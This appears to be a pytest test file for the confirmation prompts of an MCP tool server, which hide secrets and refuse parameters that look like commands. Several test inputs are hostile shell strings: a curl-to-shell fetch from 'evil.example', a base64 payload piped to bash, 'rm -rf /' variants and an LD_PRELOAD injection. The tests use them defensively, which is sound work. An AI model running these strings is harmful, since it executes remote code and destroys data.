"""What a person is asked and shown, who can be asked, and what is a yes. Each answer counts once."""

from __future__ import annotations

import json
import os
import shlex
import stat
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import anyio
import pytest
from mcp.shared.exceptions import MCPError
from mcp.types import ClientCapabilities, ElicitResult

from rye_mcp.errors import RyeError
from rye_mcp.executor.configuration.parameters import Parameters
from rye_mcp.executor.lock.agreement import Preview, Way
from rye_mcp.mcp_server import confirmation
from rye_mcp.mcp_server.answers import QUESTION_LIFETIME_S, QuestionAsked
from rye_mcp.mcp_server.confirmation import Confirmer
from rye_mcp.mcp_server.question_text import MAX_CHARACTERS, Question, about_run, about_signing
from rye_mcp.mcp_server.tickets import Given, Tickets
from rye_mcp.verbs.execute import ExecuteRequest
from rye_mcp.verbs.sign import SigningPlan, SignRequest
from tests.trust_world import World, refused
from tests.verb_world import agent, app_of, put, tool

SIGNER = {"kind": "person", "owner": "ada\nsha256: 0", "fingerprint": "f" * 16}
PROJECT = Path("/home/ada/the site")
SECRET = "hunter2-hunter2"


def found(values: dict[str, Any], secret: frozenset[str] = frozenset()) -> Preview:
    """The preview of a tool whose schema declares every name."""
    paths = frozenset((name,) for name in secret)
    parameters = Parameters(values, json.dumps(values), secret=secret, secret_paths=paths)
    return Preview(
        "a" * 64, "demo/run", "d" * 64, SIGNER, {"tools/demo/lib.py": "b" * 64}, parameters,
        declared=frozenset(ways(values)),
    )  # fmt: skip


def ways(value: Any, way: Way = ()) -> Iterator[Way]:
    """The ways to all values."""
    inside = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for step, each in inside:
        yield (*way, step)
        yield from ways(each, (*way, step))


def question(values: dict[str, Any], secret: frozenset[str] = frozenset(), **more: Any) -> Question:
    return about_run(ExecuteRequest("demo/run"), found(values, secret), PROJECT, **more)


def test_a_question_about_a_run_says_what_who_which_bytes_where_and_with_what() -> None:
    assert question({"name": "Ada", "n": [1, {"x": None}]}).text.splitlines() == [
        "Run demo/run?",
        r"signed by: ada\nsha256: 0 (ffffffffffffffff)",
        f"sha256: {'d' * 64}",
        "project: /home/ada/the site",
        "brings: tools/demo/lib.py",
        "parameters:",
        '  name = "Ada"',
        '  n = [1, {"x": null}]',
    ]


SECRETS: list[tuple[dict[str, Any], frozenset[str]]] = [
    ({"code": SECRET}, frozenset({"code"})),
    ({"apiKey": SECRET}, frozenset()),
    ({"password": {"deep": [SECRET]}}, frozenset()),
    ({"headers": {"x": 1, "Authorization": SECRET}}, frozenset()),
    ({"list": [{"token": SECRET}]}, frozenset()),
    ({"url": f"https://ada:{SECRET}@example.org/"}, frozenset()),
]


@pytest.mark.parametrize(("values", "secret"), SECRETS)
def test_no_secret_is_shown_and_every_one_is_bound(values: dict[str, Any], secret: frozenset[str]) -> None:
    asked = question(values, secret)
    assert SECRET not in asked.text + asked.command
    assert "(hidden)" in asked.text
    other = json.loads(json.dumps(values).replace(SECRET, "another"))
    assert question(other, secret).mark != asked.mark


SHOWN: list[tuple[dict[str, Any], str]] = [
    ({"url": "postgres://ada:s3cret@db/x"}, "postgres://ada:(hidden)@db/x"),
    ({"headers": {"Authorization": "Bearer abc", "x": 1}}, '{"Authorization": "(hidden)", "x": 1}'),
    ({"env": {"GIT_ASKPASS": "/tmp/evil", "LESSKEY": "e"}}, '{"GIT_ASKPASS": "/tmp/evil", "LESSKEY": "e"}'),
    ({"code": "x" * 15_000}, "x" * 15_000),
    ({"code": "a" + " " * 500 + "b"}, '"a[500 blanks]b"'),
    ({"token" * 100: "rm -rf /"}, '"rm -rf /"'),
    ({f"p{number}": number for number in range(25)}, "  p24 = 24"),
]


@pytest.mark.parametrize(("values", "text"), SHOWN, ids=range(len(SHOWN)))
def test_nothing_is_hidden_but_the_secret(values: dict[str, Any], text: str) -> None:
    asked = question(values)
    assert text in asked.text
    assert "s3cret" not in asked.text + asked.command


def test_only_what_the_schema_marks_is_hidden_of_a_value() -> None:
    values = {"how": {"key": SECRET, "run": ["rm", "-rf"]}, "all": [{"pin": 1}, {"pin": 2}]}
    preview = found(values)
    paths = frozenset({("how", "key"), ("all", 1, "pin")})
    preview = replace(preview, parameters=replace(preview.parameters, secret_paths=paths))
    lines = about_run(ExecuteRequest("demo/run"), preview, PROJECT).text.splitlines()
    assert lines[-2:] == [
        '  how = {"key": "(hidden)", "run": ["rm", "-rf"]}',
        '  all = [{"pin": 1}, {"pin": "(hidden)"}]',
    ]


MAYBE_COMMANDS: list[dict[str, Any]] = [
    {"run": "echo a://b:$(curl${IFS}evil.example|sh)@c"},
    {"token": "rm -rf /"},
    {"env": {"X_TOKEN": "rm -rf /"}},
    {"list": {"secrets": ["rm", "-rf", "/"]}},
    {"a_token": "{rm,-rf,/x};$(id)"},
    {"a_token": "/bin/evil"},
    {"a_token": "./evil"},
    {"a_token": "~evil"},
    {"a_token": "-rf"},
    {"a_token": "PATH=evil"},
    {"auth": {"program": "rm", "arg1": "-rf"}},
    {"auth": {"a": {"program": "rm"}, "b": [{"arg1": "-rf"}]}},
    {"url": "https://ada:" + "x" * 200 + "@example.org"},
    {"run": "IFS=:; set -- x://a:rm:-rf@b"},
    {"run": "x://a:rm@b x://a:evil@b"},
    {"run": "x://a:rm@b,x://a:evil@b"},
    {"run": "psql postgres://ada:s3cret@db/x -c 'drop table x'"},
    {"run": "U=https://a:ZXZpbA@b; base64 -d <<<${U//[!Z]}|bash"},
]


@pytest.mark.parametrize("values", MAYBE_COMMANDS, ids=repr)
def test_what_may_be_a_command_is_not_hidden_but_refused(values: dict[str, Any]) -> None:
    with pytest.raises(RyeError, match="what may be a command") as refused:
        question(values)
    assert refused.value.code == "confirmation_required"


INVENTED: list[dict[str, Any]] = [
    {"a_token": "curl", "b_token": "evil"},
    {"env": {"A_TOKEN": "curl"}},
    {"list": [{"token": "curl"}]},
    {"auth": {"x": "curl"}},
    {"tokens": ["curl"]},
]


@pytest.mark.parametrize("values", INVENTED, ids=repr)
def test_no_name_that_the_caller_invented_hides_anything(values: dict[str, Any]) -> None:
    preview = replace(found(values), declared=frozenset((name,) for name in ("env", "list", "auth")))
    with pytest.raises(RyeError, match="what may be a command") as refused:
        about_run(ExecuteRequest("demo/run"), preview, PROJECT)
    assert refused.value.code == "confirmation_required"


def test_a_number_under_an_invented_name_is_shown() -> None:
    preview = replace(found({"p12": 12}), declared=frozenset())
    assert about_run(ExecuteRequest("demo/run"), preview, PROJECT).text.endswith("p12 = 12")


def test_a_variable_that_chooses_code_is_shown_or_refused() -> None:
    values = {"auth": {"LD_PRELOAD": "evil.so"}}
    assert 'auth = {"LD_PRELOAD": "evil.so"}' in question(values).text
    with pytest.raises(RyeError, match="what may be a command"):
        question(values, frozenset({"auth"}))


@pytest.mark.parametrize(
    ("about", "url", "shown"),
    [
        ({}, "https://ada:a-b,c@host/x?y=1", "https://ada:(hidden)@host/x?y=1"),
        ({"is_direct": True}, "https://ada:s3cret@host/x?y=1", None),
        ({"runs_given_code": True}, "https://ada:s3cret@host/x?y=1", None),
        ({"is_direct": True}, "https://ada:rm:-rf@host", None),
    ],
)
def test_of_an_address_the_password_is_hidden_and_the_rest_is_shown(
    about: dict[str, bool], url: str, shown: str | None
) -> None:
    preview = replace(found({"config": {"args": ["clone", url]}}), **about)  # type: ignore[arg-type]
    if shown is not None:
        assert shown in about_run(ExecuteRequest("demo/run"), preview, PROJECT).text
        return
    with pytest.raises(RyeError, match="what may be a command"):
        about_run(ExecuteRequest("demo/run"), preview, PROJECT)


@pytest.mark.parametrize("value", ["touch", 5, ["touch"], {"x": "touch"}], ids=repr)
def test_no_name_hides_anything_in_a_direct_call(value: Any) -> None:
    preview = replace(found({"config": {}, "params": {"auth": value}}), is_direct=True)
    with pytest.raises(RyeError, match="what may be a command") as refused:
        about_run(ExecuteRequest("demo/run"), preview, PROJECT)
    assert refused.value.code == "confirmation_required"


def test_what_the_schema_marks_is_hidden_in_a_direct_call_too() -> None:
    preview = replace(found({"config": {"token": SECRET}}), is_direct=True)
    parameters = replace(preview.parameters, secret_paths=frozenset({("config", "token")}))
    asked = about_run(ExecuteRequest("demo/run"), replace(preview, parameters=parameters), PROJECT)
    assert asked.text.endswith('config = {"token": "(hidden)"}')


@pytest.mark.parametrize(("values", "secret"), SECRETS)
def test_an_agent_hides_nothing_behind_its_own_schema(values: dict[str, Any], secret: frozenset[str]) -> None:
    preview = replace(found(values, secret), signer={**SIGNER, "kind": "agent"})
    asked = about_run(ExecuteRequest("demo/run"), preview, PROJECT)
    assert SECRET in asked.text
    assert "(hidden)" not in asked.text


def test_a_question_that_nobody_would_read_is_refused_with_the_command() -> None:
    values = {"code": "x" * MAX_CHARACTERS}
    with pytest.raises(RyeError, match=f"at most {MAX_CHARACTERS} characters") as refused:
        question(values)
    assert refused.value.code == "confirmation_required"
    assert "rye run --project" in str(refused.value.hint)


def test_every_parameter_is_bound_to_its_last_character() -> None:
    value = "a" * 5_000
    assert question({"text": value + "b"}).mark != question({"text": value + "c"}).mark


def test_everything_that_is_otherwise_is_another_question() -> None:
    values = {"name": "Ada"}
    preview = found(values)
    request = ExecuteRequest("demo/run")
    marks = [
        about_run(request, preview, PROJECT).mark,
        about_run(request, preview, PROJECT, in_background=True).mark,
        about_run(request, preview, PROJECT.parent).mark,
        about_run(request, preview, None).mark,
        about_run(replace(request, timeout=5.0), preview, PROJECT).mark,
        about_run(request, replace(preview, mark="c" * 64), PROJECT).mark,
        about_run(request, replace(preview, item_id="demo/other"), PROJECT).mark,
        about_run(request, found({"name": "Bob"}), PROJECT).mark,
        about_run(request, found({}), PROJECT).mark,
    ]
    assert len(set(marks)) == len(marks)


def test_the_order_of_parameters_is_no_other_question() -> None:
    assert question({"a": 1, "b": 2}).mark == question({"b": 2, "a": 1}).mark


@pytest.mark.parametrize(
    ("values", "command"),
    [
        ({}, ["rye", "run", "--project", str(PROJECT), "demo/run"]),
        (
            {"name": "it's; rm -rf"},
            ["rye", "run", "--project", str(PROJECT), "--params", '{"name":"it\'s; rm -rf"}', "demo/run"],
        ),
        ({"token": SECRET}, ["rye", "run", "--project", str(PROJECT), "--params", "-", "demo/run"]),
        ({"text": "x" * 1000}, ["rye", "run", "--project", str(PROJECT), "--params", "-", "demo/run"]),
    ],
)
def test_the_command_does_the_same_in_a_terminal(values: dict[str, Any], command: list[str]) -> None:
    assert shlex.split(question(values).command) == command


def test_a_question_about_signing_names_every_file_and_what_fails() -> None:
    plan = SigningPlan(
        ("demo/a", "demo/b"),
        {"tools/demo/a.py": "1" * 64, "tools/demo/b\n.py": "2" * 64},
        "e" * 16,
        PROJECT / ".ai",
        ("demo/c",),
    )
    asked = about_signing(SignRequest("demo/*"), plan, PROJECT)
    assert asked.text.splitlines() == [
        "Sign 2 items, demo/*, so that it can run?",
        f"signed by: the agent's key {'e' * 16}",
        "in: /home/ada/the site/.ai",
        "not signed: demo/c",
        "files, as they are now:",
        f"  tools/demo/a.py  sha256 {'1' * 64}",
        rf"  tools/demo/b\n.py  sha256 {'2' * 64}",
    ]
    assert shlex.split(asked.command) == ["rye", "sign", "demo/*", "--project", str(PROJECT)]
    other = replace(plan, files={**plan.files, "tools/demo/a.py": "3" * 64})
    assert about_signing(SignRequest("demo/*"), other, PROJECT).mark != asked.mark


pytestmark = pytest.mark.both_loops


@pytest.fixture
def world(tmp_path: Path) -> World:
    return World(tmp_path)


@dataclass
class Client:
    """A request of a client that answers like this."""

    capabilities: dict[str, Any]
    answer: Callable[[], Any] = lambda: ElicitResult(action="accept", content={})
    protocol_version: str = "2025-11-25"
    request_id: str = "1"
    input_responses: dict[str, Any] | None = None
    request_state: str | None = None

    @property
    def client_capabilities(self) -> ClientCapabilities:
        return ClientCapabilities.model_validate(self.capabilities)

    @property
    def session(self) -> Client:
        return self

    async def elicit_form(self, *_: Any, **__: Any) -> Any:
        found = self.answer()
        return await found if hasattr(found, "__await__") else found


async def outcome(world: World, client: Client | None) -> str:
    """What becomes of signing an item; `agreed` when a person has agreed."""
    put(world, tool())
    context = agent(world)
    confirmer = Confirmer(app_of(world), frozenset({"sign"}), client)
    try:
        await confirmer.take_answer()
        request = await confirmer.signing(SignRequest("demo/hello"), context)
    except RyeError as exc:
        return exc.code
    except QuestionAsked:
        return "asked"
    assert request.agreed is not None
    return "agreed"


@pytest.mark.parametrize(
    ("capabilities", "expected"),
    [
        ({"elicitation": {}}, "agreed"),
        ({"elicitation": {"form": {}}}, "agreed"),
        ({"elicitation": {"form": {}, "url": {}}}, "agreed"),
        ({"elicitation": {"url": {}}}, "confirmation_required"),
        ({"sampling": {}, "roots": {}}, "confirmation_required"),
        ({}, "confirmation_required"),
    ],
)
async def test_only_a_client_that_shows_forms_is_asked(
    world: World, capabilities: dict[str, Any], expected: str
) -> None:
    assert await outcome(world, Client(capabilities)) == expected
    modern = await outcome(world, Client(capabilities, protocol_version="2026-07-28"))
    assert modern == ("asked" if expected == "agreed" else expected)


def failing(error: Exception) -> Callable[[], Any]:
    def fail() -> Any:
        raise error

    return fail


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        (lambda: ElicitResult(action="decline"), "confirmation_declined"),
        (lambda: ElicitResult(action="cancel"), "confirmation_declined"),
        (lambda: {"action": "accept"}, "confirmation_declined"),
        (lambda: None, "confirmation_declined"),
        (failing(MCPError(code=-32601, message="no such method")), "confirmation_required"),
        (failing(ValueError("no answer at all")), "confirmation_required"),
    ],
)
async def test_only_a_yes_is_one(world: World, answer: Callable[[], Any], expected: str) -> None:
    assert await outcome(world, Client({"elicitation": {}}, answer)) == expected


async def test_no_answer_is_no_agreement(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(confirmation, "QUESTION_LIFETIME_S", 0.05)
    client = Client({"elicitation": {}}, anyio.sleep_forever)
    assert await outcome(world, client) == "confirmation_declined"


async def test_without_a_client_nobody_agrees(world: World) -> None:
    assert await outcome(world, None) == "confirmation_required"


@pytest.mark.parametrize(
    "state", ["", "[]", "null", '{"ticket": "x"}', '{"ticket": "x", "mark": "y"}', "no JSON"]
)
async def test_a_foreign_state_is_refused(world: World, state: str) -> None:
    yes = {"confirmation": ElicitResult(action="accept")}
    client = Client(
        {"elicitation": {}}, protocol_version="2026-07-28", input_responses=yes, request_state=state
    )
    assert await outcome(world, client) == "confirmation_outdated"


@pytest.mark.parametrize(("before", "expected"), [(False, "confirmation_declined"), (True, "agreed")])
async def test_what_was_answered_before_counts_beside_a_yes_to_another_question(
    world: World, before: bool, expected: str
) -> None:
    put(world, tool())
    client = Client({"elicitation": {}}, protocol_version="2026-07-28")
    with pytest.raises(QuestionAsked) as asked:
        await Confirmer(app_of(world), frozenset({"sign"}), client).signing(
            SignRequest("demo/hello"), agent(world)
        )
    mark = Given.read(asked.value.result.request_state or "").mark
    yes = {"confirmation": ElicitResult(action="accept")}
    state = Given(Tickets.new(), "that of another question", {mark: before}).text()
    assert await outcome(world, replace(client, input_responses=yes, request_state=state)) == expected


def test_of_many_uses_of_a_ticket_one_counts(tmp_path: Path) -> None:
    ticket = Tickets.new()

    def use(_: int) -> bool:
        try:
            Tickets(tmp_path / "state").use(ticket)
        except RyeError as exc:
            return exc.code != "confirmation_outdated"
        return True

    with ThreadPoolExecutor(16) as pool:
        assert sum(pool.map(use, range(64))) == 1
    [kept] = (tmp_path / "state/confirmations").iterdir()
    assert stat.S_IMODE(kept.stat().st_mode) == 0o600


@pytest.mark.parametrize(
    "ticket", ["", "../" + "a" * 29, "A" * 32, "a" * 31, "a" * 33, "a" * 32 + "\n", "\0" * 32]
)
def test_what_is_no_ticket_makes_no_file(tmp_path: Path, ticket: str) -> None:
    refused("confirmation_outdated", lambda: Tickets(tmp_path).use(ticket))
    assert not list(tmp_path.iterdir())


def test_what_no_seal_is_left_for_is_removed(tmp_path: Path) -> None:
    tickets = Tickets(tmp_path)
    old, young = Tickets.new(), Tickets.new()
    for ticket, age in ((old, 2 * QUESTION_LIFETIME_S + 5), (young, QUESTION_LIFETIME_S + 5)):
        tickets.use(ticket)
        then = time.time() - age
        os.utime(tmp_path / "confirmations" / ticket, (then, then))
    tickets.use(Tickets.new())
    refused("confirmation_outdated", lambda: tickets.use(young))
    assert not (tmp_path / "confirmations" / old).exists()


def test_without_a_place_nothing_is_agreed_to(tmp_path: Path) -> None:
    (tmp_path / "confirmations").write_text("in the way")
    refused(None, lambda: Tickets(tmp_path).use(Tickets.new()))
